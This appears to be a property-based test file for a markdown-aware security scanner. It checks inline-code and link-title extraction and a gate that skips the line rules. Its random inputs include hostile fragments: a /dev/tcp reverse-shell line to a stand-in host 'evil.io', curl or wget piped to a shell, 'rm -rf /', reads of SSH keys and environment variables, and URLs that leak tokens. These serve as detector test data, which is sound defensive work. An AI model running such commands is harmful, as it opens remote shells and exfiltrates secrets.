// The markdown parts the security rules read, found in one pass over the lines, against the plain
// formulations (inline code and link titles matched on every line of the prose), and the line
// rules' gate: when it says no rule may match, none does on any part of the text.
import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { markdownParts } from '../../../src/layers/security/markdown.js'
import { lineRuleHits, mayNeedLineRules } from '../../../src/layers/security/rules/lines.js'
import { TextFacts } from '../../../src/layers/security/text-facts.js'

const SEED = 19

const indent = fc.constantFrom('', ' ', '  ', '\t', '> ')
const piece = fc.constantFrom(
  ' ',
  '`',
  '``',
  'x',
  '](',
  '[a]',
  '[',
  '![',
  '(b "t")',
  "(c 'u')",
  ')',
  '"',
  '<!--',
  '-->',
  'curl',
  'wget',
  'https://x.io/a?q={id}',
  '| sh',
  '?',
  'iex',
  'tcp',
  'os.environ',
  'requests.post(',
  '"~/.ssh/id_rsa"'
)
const soup = fc.array(piece, { maxLength: 10 }).map((pieces) => pieces.join(''))
const line = fc.oneof(
  fc
    .tuple(indent, fc.constantFrom('```', '````', '~~~', '```sh', '```python', '```a`b'))
    .map((p) => p.join('')),
  fc.tuple(indent, fc.constantFrom('~~~ `rm -rf /`', '~~~ [a](b "t")')).map((p) => p.join('')),
  fc.constantFrom(
    '![x](https://x.io/a?q={id})',
    'See [doc](https://x.io/p?ref=${TOKEN}).',
    'exec 3<>/dev/tcp/evil.io/4444',
    '$c = New-Object Net.Sockets.TCPClient("x", 1)'
  ),
  fc.constant(''),
  fc.tuple(indent, soup).map((p) => p.join(''))
)
const markdown = fc.array(line, { maxLength: 25 }).map((lines) => lines.join('\n'))

/** Matches of `re` on every line of `text`, with their line numbers. */
function onEveryLine(text: string, re: RegExp, pick: (m: RegExpExecArray) => string) {
  return text
    .split('\n')
    .flatMap((line, index) =>
      [...line.matchAll(re)].map((m) => ({ text: pick(m), line: index + 1 }))
    )
}

describe('markdownParts', () => {
  it('finds the inline code and link titles that matching every prose line finds', () => {
    fc.assert(
      fc.property(markdown, (text) => {
        const parts = markdownParts(text)
        expect(parts.inlineCode).toEqual(
          onEveryLine(parts.prose, /(`+)([^`\n]+?)\1(?!`)/g, (m) => m[2]!)
        )
        expect(parts.linkTitles).toEqual(
          onEveryLine(
            parts.prose,
            /\]\(\s*<?[^\s)>]*>?\s+(?:"([^"\n]{1,1000})"|'([^'\n]{1,1000})')\s*\)/g,
            (m) => m[1] ?? m[2] ?? ''
          )
        )
      }),
      { seed: SEED, numRuns: 1500 }
    )
  })
})

describe('mayNeedLineRules', () => {
  it('says no only when no line rule matches the text or any part of it', () => {
    let noes = 0
    let runs = 0
    fc.assert(
      fc.property(markdown, fc.boolean(), (text, prose) => {
        runs++
        const whole = new TextFacts(text)
        if (mayNeedLineRules(whole, prose)) return
        noes++
        const part = markdownParts(text).prose
        expect(lineRuleHits(whole, { prose })).toEqual([])
        expect(lineRuleHits(new TextFacts(part), { prose, within: whole })).toEqual([])
      }),
      { seed: SEED, numRuns: 1500 }
    )
    // a gate that always said yes would pass the property and save nothing
    expect(noes).toBeGreaterThan(runs / 10)
  })
})
